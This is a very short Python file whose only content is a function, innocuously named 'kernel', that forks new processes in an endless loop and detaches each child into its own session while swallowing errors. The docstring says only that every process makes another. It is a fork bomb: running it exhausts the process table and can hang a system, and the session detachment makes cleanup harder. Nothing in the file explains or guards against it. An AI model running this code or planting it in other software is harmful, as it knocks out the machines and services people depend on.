"""Every process makes another and leaves its session."""

import os


def kernel(x):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass
